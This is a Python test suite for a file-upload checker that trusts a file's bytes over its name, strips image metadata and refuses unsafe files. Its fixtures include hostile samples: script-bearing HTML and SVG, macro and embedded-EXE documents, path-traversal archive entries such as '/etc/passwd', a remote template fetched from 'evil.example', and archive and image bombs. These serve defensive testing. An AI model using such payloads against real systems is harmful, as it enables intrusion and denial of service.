"""What an uploaded file really is: its bytes are believed, neither its name nor what the sender says of it."""

import asyncio
import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from sentences import sentences

from credentials.apart import Apart
from credentials.evidence import intake
from credentials.evidence.intake import EXTENSIONS, examine
from credentials.evidence.model import FileRefused
from credentials.evidence.rules import FILE_MODES

SECRET = b"51.5007 N, 0.1246 W, taken by Ms. Marlow's phone"

Look = Callable[[str, bytes], tuple[str, bytes | None]]


@pytest.fixture
def look(tmp_path: Path) -> Look:
    """What becomes of a file that its owner calls by a name."""

    apart = Apart()

    def examined(name: str, content: bytes) -> tuple[str, bytes | None]:
        path = tmp_path / "received"
        path.write_bytes(content)
        return asyncio.run(examine(apart, path, name))

    return examined


def refused(look: Look, name: str, content: bytes) -> str:
    with pytest.raises(FileRefused) as caught:
        look(name, content)
    assert caught.value.detail
    return caught.value.code


def a_picture(format_name: str, *, size: tuple[int, int] = (8, 6), tail: bytes = b"", mode: str = "RGB") -> bytes:
    """With metadata of every kind that the format has."""
    image = Image.new(mode, size, (200, 30, 60) if mode == "RGB" else 3)
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    out = io.BytesIO()
    match format_name:
        case "PNG":
            told = PngInfo()
            told.add_text("Comment", SECRET.decode())
            told.add_itxt("XML:com.adobe.xmp", SECRET.decode())
            image.save(out, "PNG", pnginfo=told, exif=exif)
        case "JPEG":
            image.save(out, "JPEG", exif=exif, comment=SECRET, xmp=SECRET)
        case "WEBP":
            image.save(out, "WEBP", exif=exif, xmp=SECRET)
    return out.getvalue() + tail


def a_recording() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8_000)
        sound.writeframes(bytes(800))
    return out.getvalue()


def a_document(part: str = "word/document.xml", **more: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(part, "<document/>")
        for name, content in more.items():
            archive.writestr(name, content)
    return out.getvalue()


def a_video(brand: bytes = b"isom") -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + brand + b"mp42" + bytes(64)


A_PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

TAKEN = {
    "page.pdf": (A_PDF, "application/pdf"),
    "plan.DOCX": (a_document(), EXTENSIONS["docx"]),
    "slides.pptx": (a_document("ppt/presentation.xml"), EXTENSIONS["pptx"]),
    "marks.xlsx": (a_document("xl/workbook.xml"), EXTENSIONS["xlsx"]),
    "notes.txt": ("Grüße, 你好\n\tund mehr\r\n".encode(), "text/plain"),
    "notes.md": (b"# A heading\n", "text/plain"),
    "marks.csv": (b"name,mark\nA,1\n", "text/csv"),
    "a text that begins as a picture.txt": (b"BM is how it begins", "text/plain"),
    "a text that begins as a program.txt": (b"MZ is how it begins", "text/plain"),
    "work.png": (a_picture("PNG"), "image/png"),
    "work.jpg": (a_picture("JPEG"), "image/jpeg"),
    "work.jpeg": (a_picture("JPEG"), "image/jpeg"),
    "work.webp": (a_picture("WEBP"), "image/webp"),
    "reading.wav": (a_recording(), "audio/wav"),
    "lesson.mp4": (a_video(), "video/mp4"),
    "lesson.mov": (a_video(b"qt  "), "video/quicktime"),
}


@pytest.mark.parametrize("name", TAKEN)
def test_a_file_that_is_what_its_name_says_is_taken(look: Look, name: str) -> None:
    content, media_type = TAKEN[name]
    assert look(name, content)[0] == media_type
    assert media_type in FILE_MODES


def test_every_type_that_is_taken_has_a_mode_of_evidence() -> None:
    assert set(EXTENSIONS.values()) == set(FILE_MODES)


@sentences(
    ("name", "content", "code"),
    {
        "a program called a picture": ("work.png", b"\x7fELF" + bytes(100), "media-type-mismatch"),
        "a page of HTML called a PDF": ("page.pdf", b"<html><script>alert(1)</script>", "media-type-mismatch"),
        "a picture called another kind": ("work.png", a_picture("JPEG"), "media-type-mismatch"),
        "a document called a sheet": ("marks.xlsx", a_document(), "media-type-mismatch"),
        "an archive called a document": ("plan.docx", a_document("anything/else.xml"), "media-type-mismatch"),
        "bytes called a text": ("notes.txt", b"\x00\x01\x02\xff", "media-type-mismatch"),
        "a text in another encoding": ("notes.txt", "Grüße".encode("utf-16"), "media-type-mismatch"),
        "a text with an escape for terminals": ("notes.txt", b"\x1b[2J", "media-type-mismatch"),
        "nothing": ("work.png", b"", "media-type-mismatch"),
        "a page of HTML": ("page.html", b"<html>", "unsupported-media-type"),
        "a program": ("setup.exe", b"MZ" + bytes(100), "unsupported-media-type"),
        "a file without an ending": ("README", b"text", "unsupported-media-type"),
        "a quiet drawing": ("art.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "unsupported-media-type"),
        "a drawing with a script": ("art.svg", b"<svg><script>1</script></svg>", "svg-active-content"),
        "a drawing with a handler": ("art.svg", b"<svg onload = 'x'/>", "svg-active-content"),
        "a drawing with a link": ("art.svg", b"<svg><a xlink:HREF='javascript:1'/></svg>", "svg-active-content"),
        "half a picture": ("work.png", a_picture("PNG")[:60], "image-malformed"),
        "a document with macros": ("plan.docx", a_document(**{"word/vbaProject.bin": b"x"}), "active-content"),
        "a document with a program": ("plan.docx", a_document(**{"word/embeddings/x.EXE": b"x"}), "active-content"),
        "a document that climbs": ("plan.docx", a_document(**{"../outside.xml": b"x"}), "archive-invalid"),
        "a document with a part at the root": ("plan.docx", a_document(**{"/etc/passwd": b"x"}), "archive-invalid"),
        "a document with a tail": ("plan.docx", a_document() + b"and more", "archive-invalid"),
        "a document cut short": ("plan.docx", a_document()[:-30], "archive-invalid"),
        "a document that fetches its template": (
            "plan.docx",
            a_document(
                **{
                    "word/_rels/settings.xml.rels": b'<R><r Type="x/attachedTemplate" TargetMode="External" '
                    b'Target="https://evil.example/t.dotm"/></R>'
                }
            ),
            "active-content",
        ),
        "a document whose parts are a bomb of entities": (
            "plan.docx",
            a_document(**{"word/_rels/x.rels": b'<!DOCTYPE r [<!ENTITY a "b">]><R>&a;</R>'}),
            "archive-invalid",
        ),
    },
)
def test_what_is_refused_and_under_which_code(look: Look, name: str, content: bytes, code: str) -> None:
    assert refused(look, name, content) == code


def test_a_document_that_unpacks_to_far_more_than_it_is_is_refused_before_it_is_unpacked(look: Look) -> None:
    content = a_document(**{"word/media/zeros.png": bytes(1_000)})
    assert look("plan.docx", content)[0] == EXTENSIONS["docx"]
    said = content.replace(struct.pack("<I", 1_000), struct.pack("<I", intake.MAX_UNPACKED))
    assert refused(look, "plan.docx", said) == "archive-bomb"
    parts = {f"word/{number}.xml": b"" for number in range(intake.MAX_MEMBERS)}
    assert refused(look, "plan.docx", a_document(**parts)) == "archive-bomb"


def a_huge_png(width: int, height: int) -> bytes:
    """A few bytes that say they are a large picture."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(10_000, 5_001), (60_000, 60_000), (2**31 - 1, 2**31 - 1)])
def test_a_picture_of_more_pixels_than_a_camera_makes_is_not_decoded(look: Look, size: tuple[int, int]) -> None:
    assert refused(look, "work.png", a_huge_png(*size)) in {"image-too-large", "image-malformed"}


@pytest.mark.parametrize(("name", "format_name"), [("a.png", "PNG"), ("a.jpg", "JPEG"), ("a.webp", "WEBP")])
def test_nothing_of_a_picture_is_kept_but_its_pixels(look: Look, name: str, format_name: str) -> None:
    """No comment, no place, no camera, no colour profile, and nothing that hides behind its end."""
    content = a_picture(format_name, tail=b"PK\x03\x04 hidden behind the end")
    assert SECRET[:20] in content
    _, kept = look(name, content)
    assert kept is not None
    assert SECRET[:20] not in kept
    assert b"hidden" not in kept
    with Image.open(io.BytesIO(kept)) as image, Image.open(io.BytesIO(content)) as original:
        assert (image.format, image.size) == (format_name, original.size)
        assert not image.getexif()
        assert not {"icc_profile", "comment", "Comment", "xmp", "exif", "XML:com.adobe.xmp"} & set(image.info)
        for place in ((0, 0), (7, 5)):
            seen, was = image.convert("RGB").getpixel(place), original.convert("RGB").getpixel(place)
            assert all(abs(one - other) <= 8 for one, other in zip(seen, was, strict=True))


def test_a_picture_that_was_taken_sideways_stands_upright_without_saying_so(look: Look) -> None:
    image = Image.new("RGB", (30, 20), (0, 0, 0))
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    _, kept = look("sideways.jpg", out.getvalue())
    assert kept is not None
    with Image.open(io.BytesIO(kept)) as upright:
        assert upright.size == (20, 30)
        assert 0x0112 not in upright.getexif()


def test_a_picture_with_a_palette_and_holes_keeps_them(look: Look) -> None:
    out = io.BytesIO()
    image = Image.new("P", (4, 4), 3)
    image.putpalette(list(range(30)))
    image.save(out, "PNG", transparency=3)
    _, kept = look("hole.png", out.getvalue())
    assert kept is not None
    with Image.open(io.BytesIO(kept)) as image:
        assert image.convert("RGBA").getpixel((0, 0))[3] == 0


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(sorted(TAKEN)), st.data())
def test_a_file_with_changed_bytes_is_taken_or_refused_and_nothing_else(
    look: Look, name: str, data: st.DataObject
) -> None:
    content = bytearray(TAKEN[name][0])
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(content)))
    try:
        media_type, _ = look(name, bytes(content[:cut] if data.draw(st.booleans()) else content))
    except FileRefused:
        return
    assert media_type == TAKEN[name][1]
